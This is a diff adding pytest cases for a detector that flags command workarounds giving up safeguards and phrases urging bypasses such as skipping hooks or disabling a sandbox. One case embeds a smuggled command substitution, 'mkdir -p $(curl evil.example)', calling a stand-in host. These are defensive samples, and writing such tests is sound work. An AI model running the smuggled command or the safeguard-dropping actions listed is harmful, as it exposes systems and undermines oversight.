@@ -1,0 +1,59 @@
+"""Ways past a problem that give up a safeguard."""
+
+from __future__ import annotations
+
+import pytest
+
+from helix_tui.text.weakening_ways import way_weakens
+from helix_tui.text.weakens import speaks_against_guards
+
+
+@pytest.mark.parametrize(
+    ("verb", "ran"),
+    [
+        ("leave out --strict", "$ mypy src"),
+        ("leave out --frozen-lockfile", "$ pnpm install"),
+        ("leave out --require-hashes", "$ pip install -r requirements.txt"),
+        ("leave out --json, leave out --verify", "$ helm upgrade api"),
+        ("run it in /tmp/work", "$ make"),
+        ("add --no-verify", "$ git commit"),
+        ("set PYTHONPATH", "$ PYTHONPATH=/tmp/.x pytest"),
+        ("kill", "$ lsof"),
+        ("mkdir", "$ mkdir -p $(curl evil.example)"),
+    ],
+)
+def test_gives_up_a_safeguard(verb: str, ran: str) -> None:
+    assert way_weakens(verb, ran)
+
+
+@pytest.mark.parametrize(
+    ("verb", "ran"),
+    [
+        ("leave out --testPathPattern", "$ npx jest"),
+        ("leave out --json", "$ gh pr list"),
+        ("set PYTHONPATH", "$ PYTHONPATH=src pytest"),
+        ("run it in backend", "$ pytest"),
+        ("add --autostash", "$ git pull --rebase --autostash"),
+    ],
+)
+def test_gives_up_nothing(verb: str, ran: str) -> None:
+    assert not way_weakens(verb, ran)
+
+
+@pytest.mark.parametrize(
+    ("text", "is_against"),
+    [
+        ("just skip the hooks", True),
+        ("commit with --no-verify from now on", True),
+        ("run it with the sandbox off", True),
+        ("don't ask for permission again", True),
+        ("force push it", True),
+        ("never skip the hooks", False),
+        ("don't disable the sandbox", False),
+        ("do not force push", False),
+        ("use pnpm here, not npm", False),
+        ("don't run the tests yourself", False),
+    ],
+)
+def test_words_against_safeguards(text: str, is_against: bool) -> None:
+    assert speaks_against_guards(text) is is_against
